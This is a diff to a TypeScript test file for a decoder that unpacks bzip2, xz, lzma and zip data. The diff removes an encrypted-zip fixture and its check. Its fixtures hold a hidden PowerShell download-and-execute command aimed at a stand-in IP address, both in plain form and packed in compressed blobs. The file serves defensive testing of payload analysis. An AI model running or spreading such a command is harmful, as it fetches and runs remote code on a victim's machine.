@@ -11,7 +11,7 @@ const run = (value: string, limits: Partial<PeelLimits> = {}) => peel(value, { .
 const said = (bytes: Buffer): string => `FromBase64String('${bytes.toString('base64')}')`;
 const TEXT = 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"';
 
-// made with bzip2 1.0.8, xz 5.4 (the second with an x86 filter and CRC-32), xz --format=lzma, zip 3.0 -P and Python's zipfile
+// made with bzip2 1.0.8, xz 5.4 (the second with an x86 filter and CRC-32), xz --format=lzma and Python's zipfile
 const PACKED = {
   bzip2: 'QlpoOTFBWSZTWbvFZfYAACwfgFDj+DAOIYjAPvXcgCAAaGGTT1DIeoaeo0A9TRkKj0EyNBoDTQHqG0jszN8IgsWHPYAJlxwmqVyTSyKKBUtCb+0b6C1x0cMg8aAxiz4iOjeJhff0sZPCNzJ2tcdSYFkO0AWqwmITJ1aKjfi7kinChIXeKy+w',
   xz: '/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQBncG93ZXJzaGVsbCAtbm9wIC13IGhpZGRlbiAtYyAiSUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMjAzLjAuMTEzLjkvYS5wczEnKSIAft3BKafHPoMAAYABaAAAAFk2Fx6xxGf7AgAAAAAEWVo=',
@@ -19,7 +19,6 @@ const PACKED = {
   lzma: 'XQAAgAD//////////wA4G8tU41B07nZ4qhSbPq66AUoZJFcc/E/J4cQg4BFLG/awnKcxPvd8AS9wcPRV0WLrn3oHcEw4yBYs4HBC6i+hYgd1ikEB5RQGphIfvFbeTwNzn9oQSbs8sM59yE1ckO2gASlGLb7ILj//jAfAAA==',
   zipBzip2: 'UEsDBC4AAAAMAKNeeF1YNu2phwAAAGgAAAAHAAAAYS9zLnR4dEJaaDkxQVkmU1m7xWX2AAAsH4BQ4/gwDiGIwD713IAgAGhhk09QyHqGnqNAPU0ZCo9BMjQaA00B6htI7MzfCILFhz2ACZccJqlck0siigVLQm/tG+gtcdHDIPGgMYs+Ijo3iYX39LGTwjcydrXHUmBZDtAFqsJiEydWio34u5IpwoSF3isvsFBLAQIuAy4AAAAMAKNeeF1YNu2phwAAAGgAAAAHAAAAAAAAAAAAAACAAQAAAABhL3MudHh0UEsFBgAAAAABAAEANQAAAKwAAAAAAA==',
   zipLzma: 'UEsDBD8AAgAOAKNeeF1YNu2peAAAAGgAAAAHAAAAYS9zLnR4dAkEBQBdAACAAAA4G8tU41B07nZ4qhSbPq66AUoZJFcc/E/J4cQg4BFLG/awnKcxPvd8AS9wcPRV0WLrn3oHcEw4yBYs4HBC6i+hYgd1ikEB5RQGphIfvFbeTwNzn9oQSbs8sM59yE1ckO2gASlGLb7ILj//jAfAAFBLAQI/Az8AAgAOAKNeeF1YNu2peAAAAGgAAAAHAAAAAAAAAAAAAACAAQAAAABhL3MudHh0UEsFBgAAAAABAAEANQAAAJ0AAAAAAA==',
-  encrypted: 'UEsDBBQACQAIAKJeeF1YNu2pcgAAAGgAAAAFABwAcy50eHRVVAkAA596BWufegVrdXgLAAEEAAAAAAQAAAAAZDVuSGbSXy/XDQGVwb2Qz6UVTcs3wmAE5NN5Afk4UwFl8GvjtA7CAQUQj/NaXC1kB1fBYcEyWPZhU4Mp1Dg/KlOnge5DU09I4s3IklNq2Oj9d82xnwsxkjQeNkF24kMMlUVSKjNIvOjeKRiJDNYPC0u7UEsHCFg27alyAAAAaAAAAFBLAQIeAxQACQAIAKJeeF1YNu2pcgAAAGgAAAAFABgAAAAAAAEAAACkgQAAAABzLnR4dFVUBQADn3oFa3V4CwABBAAAAAAEAAAAAFBLBQYAAAAAAQABAEsAAADBAAAAAAA=',
 } as const;
 
 describe('streams and archives', () => {
@@ -30,7 +29,6 @@ describe('streams and archives', () => {
   });
 
   it('says what it cannot open', () => {
-    expect(run(PACKED.encrypted).notes).toEqual(['"s.txt" (104 bytes) in a zip archive is encrypted with a password and was not unpacked.']);
     expect(run(PACKED.filtered).notes).toEqual(['An xz stream with the filter 0x4 was left alone: only LZMA2 is read.']);
   });
 
